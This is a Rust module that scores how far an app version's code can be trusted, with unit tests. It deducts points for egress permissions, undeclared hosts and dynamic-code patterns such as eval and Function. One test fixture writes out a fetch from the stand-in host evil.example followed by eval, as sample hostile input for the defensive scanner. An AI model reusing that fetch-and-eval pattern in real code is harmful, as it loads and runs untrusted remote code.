//! How far a version's code can be trusted: rules over its manifest and source, each with a sentence. The same
//! input gives the same score.

use std::collections::BTreeMap;

use serde::{Deserialize, Serialize};

use crate::{
    Manifest,
    manifest::{DataAccess, HttpMethod},
};

/// How far a trust score goes.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
#[cfg_attr(feature = "openapi", derive(utoipa::ToSchema))]
pub enum TrustBand {
    /// Nothing to look at.
    Pass,
    /// Somebody should look.
    Review,
    /// Somebody must look.
    Fail,
}

impl TrustBand {
    /// 80 and more pass; below 50 fails.
    #[must_use]
    pub fn from_score(score: u8) -> Self {
        match score {
            80.. => Self::Pass,
            50..80 => Self::Review,
            _ => Self::Fail,
        }
    }
}

/// What the rules found.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct TrustAssessment {
    /// 0 to 100.
    pub score: u8,
    /// One sentence for each rule that took something off.
    pub findings: Vec<TrustFinding>,
}

/// One rule that took something off.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct TrustFinding {
    /// How much.
    pub points: u8,
    /// Why.
    pub message: String,
}

/// Source text that is hard to foresee, and what to call it.
const DYNAMIC_CODE_PATTERNS: [(&str, &str); 4] = [
    ("eval(", "calls eval"),
    ("Function(", "makes functions from text"),
    ("import(", "imports modules while it runs"),
    ("__proto__", "reaches for prototypes"),
];

/// Applies every rule.
#[must_use]
pub fn assess(manifest: &Manifest, files: &BTreeMap<String, String>) -> TrustAssessment {
    let mut findings = Vec::new();
    let mut find = |points: usize, sentence: String| {
        if points > 0 {
            findings.push(TrustFinding { points: points.min(100) as u8, message: sentence });
        }
    };
    let permissions = &manifest.permissions;
    let hosts = permissions.egress.len();
    find((hosts * 3).min(20), format!("It may call {hosts} outside hosts."));
    let writing_hosts = permissions
        .egress
        .iter()
        .filter(|egress| {
            egress.methods.as_ref().is_none_or(|methods| methods.iter().any(|m| *m != HttpMethod::Get))
        })
        .count();
    find((writing_hosts * 2).min(10), format!("It may send data to {writing_hosts} of them."));
    let connectors = permissions.connectors.len();
    find((connectors * 5).min(20), format!("It may use {connectors} connections."));
    let writes = permissions.data.iter().filter(|data| data.access == DataAccess::Write).count();
    find((writes * 4).min(12), format!("It may change the rows of {writes} projects."));
    let unlimited = permissions.data.iter().filter(|data| data.tables.is_none()).count();
    find((unlimited * 2).min(6), format!("It may use every table of {unlimited} projects."));
    if permissions.ai.is_some() {
        find(5, "It may send data to models.".to_owned());
    }

    for (needle, what) in DYNAMIC_CODE_PATTERNS {
        if let Some((path, _)) = files.iter().find(|(_, text)| contains_token(text, needle)) {
            find(15, format!("The file {path} {what}."));
        }
    }
    let undeclared = undeclared_hosts(manifest, files);
    if let Some(first) = undeclared.first() {
        let count = undeclared.len();
        find(
            (count * 10).min(30),
            format!("Its code names {count} hosts that it does not ask for, such as {first}."),
        );
    }
    let kib = files.values().map(String::len).sum::<usize>() >> 10;
    if kib > 200 {
        find(10, format!("It has {kib} KiB of code, more than a person reads."));
    }
    let deducted_points: u32 = findings.iter().map(|finding| u32::from(finding.points)).sum();
    TrustAssessment { score: 100_u32.saturating_sub(deducted_points) as u8, findings }
}

/// Whether `text` holds `needle` where no longer name ends in it.
fn contains_token(text: &str, needle: &str) -> bool {
    let in_name = |c: char| c.is_alphanumeric() || c == '_' || c == '$';
    text.match_indices(needle).any(|(at, _)| !text[..at].ends_with(in_name))
}

/// The hosts of `https://…` texts in the code that the manifest does not name, in order.
fn undeclared_hosts(manifest: &Manifest, files: &BTreeMap<String, String>) -> Vec<String> {
    let mut found = Vec::new();
    for text in files.values() {
        for rest in text.split("https://").skip(1) {
            let host: String = rest
                .chars()
                .take_while(|c| c.is_ascii_alphanumeric() || "-.".contains(*c))
                .collect::<String>()
                .to_lowercase();
            let declared = manifest.permissions.egress.iter().any(|egress| egress.host == host);
            if host.contains('.') && !declared && !found.contains(&host) {
                found.push(host);
            }
        }
    }
    found
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::{Category, manifest::EgressPermission};

    fn source(text: &str) -> BTreeMap<String, String> {
        BTreeMap::from([("main.js".to_owned(), text.to_owned())])
    }

    #[test]
    fn an_app_that_asks_for_nothing_passes() {
        let manifest = Manifest::minimal("Hello", "Says hello.", "kiosk", Category::Interface);
        let assessment = assess(&manifest, &source("export default {}"));
        assert_eq!((assessment.score, assessment.findings.len()), (100, 0));
        assert_eq!(TrustBand::from_score(assessment.score), TrustBand::Pass);
    }

    #[test]
    fn only_the_word_itself_counts() {
        let manifest = Manifest::minimal("Hello", "Says hello.", "kiosk", Category::Interface);
        let points = |text| 100 - assess(&manifest, &source(text)).score;
        assert_eq!(points("runFunction(); medieval(1); $eval(2)"), 0);
        assert_eq!(points("new Function('x')"), 15);
    }

    #[test]
    fn what_is_hidden_or_broad_takes_points_off() {
        let mut manifest = Manifest::minimal("Hello", "Says hello.", "kiosk", Category::Interface);
        let hidden = source("fetch('https://evil.example/x'); eval(x)");
        let before = assess(&manifest, &hidden);
        assert!(before.findings.iter().any(|finding| finding.message.contains("evil.example")));
        assert!(before.findings.iter().any(|finding| finding.message.contains("eval")));
        manifest.permissions.egress.push(EgressPermission { host: "evil.example".to_owned(), methods: None });
        let declared = assess(&manifest, &hidden);
        assert!(declared.score > before.score, "asking openly costs less than hiding");
        assert_eq!(declared, assess(&manifest, &hidden));
    }
}
